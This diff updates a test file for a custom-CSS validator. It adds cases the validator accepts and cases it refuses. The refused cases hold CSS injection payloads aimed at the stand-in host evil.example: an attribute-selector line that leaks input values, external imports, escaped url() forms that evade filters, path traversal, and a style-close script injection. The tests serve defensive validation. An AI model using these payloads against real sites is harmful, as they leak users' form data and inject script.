@@ -7,12 +7,20 @@ import { customCssProblem } from './custom-css';
 import { draftOfStored, servedCss } from './customization-draft';
 
 describe("the tenant's custom CSS", () => {
+  const UPLOAD = '/api/v2/pfp/files/0b3d91aa-1c2d-4e5f-8a9b-0c1d2e3f4a5b';
+
   it.each([
     ['a { color: red; }'],
     [':root { --color-primary: #0b3d91; }'],
-    ["@import url('/fonts/brand.css');"],
-    ['.logo { background: url(/files/logo.png); }'],
-  ])('accepts plain CSS and imports of this site: %s', (css) => {
+    [`.logo { background: url(${UPLOAD}); }`],
+    [`.logo { background: URL( "${UPLOAD}" ) }`],
+    [`.hero { background-image: image-set("${UPLOAD}" 1x, url('${UPLOAD}') 2x) }`],
+    [`@font-face { font-family: Brand; src: local("Brand"), url(${UPLOAD}) format("woff2") }`],
+    ['.dot { background: url("data:image/png;base64,iVBORw0KGgo=") }'],
+    ['@font-face { font-family: Brand; src: url(data:font/woff2;base64,d09GMgABAAAAAA) }'],
+    ["@import url('data:text/css,a%7Bcolor:red%7D');"],
+    ['a::after { content: "https://example.com is not loaded"; }'],
+  ])("accepts plain CSS, the tenant's uploaded files and data: addresses: %s", (css) => {
     expect(customCssProblem(css)).toBeNull();
   });
 
@@ -28,6 +36,24 @@ describe("the tenant's custom CSS", () => {
     ['a {}</style><script>alert(1)</script>', 'validator.error_css_style_close'],
     ['a {}<\\/style>', 'validator.error_css_style_close'],
     ['a'.repeat(20_001), 'validator.error_css_too_large'],
+    ["@import url('/fonts/brand.css');", 'validator.error_css_import'],
+    ['@import"https://evil.example/x.css";', 'validator.error_css_import'],
+    ['input[value^="a"] { background: url(https://evil.example/leak?a) }', 'validator.error_css_url'],
+    ['a { background: url(//evil.example/x.png) }', 'validator.error_css_url'],
+    ['a { background: url(/files/logo.png) }', 'validator.error_css_url'],
+    [`a { background: url(https://evil.example${UPLOAD}) }`, 'validator.error_css_url'],
+    [`a { background: url(${UPLOAD}?leak=a) }`, 'validator.error_css_url'],
+    [`a { background: url(${UPLOAD}/../../../x) }`, 'validator.error_css_url'],
+    ['@font-face { font-family: X; src: url(https://evil.example/x.woff2) }', 'validator.error_css_url'],
+    ['@font-face { font-family: X; src: local(X), URL("https://evil.example/x.woff2") format("woff2") }', 'validator.error_css_url'],
+    ['a { background: image-set("https://evil.example/x.png" 1x) }', 'validator.error_css_url'],
+    ['a { background: -webkit-image-set(\'//evil.example/x.png\' 1x) }', 'validator.error_css_url'],
+    ['a { background: \\75 rl(https://evil.example/x.png) }', 'validator.error_css_url'],
+    ['a { background: \\55\\52\\4c(https://evil.example/x.png) }', 'validator.error_css_url'],
+    ['a { background: url(https\\3a //evil.example/x.png) }', 'validator.error_css_url'],
+    ['a { background: url(/*x*/https://evil.example/x.png) }', 'validator.error_css_url'],
+    ['a { background: u\\rl(https://evil.example/x.png) }', 'validator.error_css_url'],
+    ['a { background: url(  ) }', 'validator.error_css_url'],
   ])('refuses %s', (css, key) => {
     expect(customCssProblem(css)).toBe(key);
   });
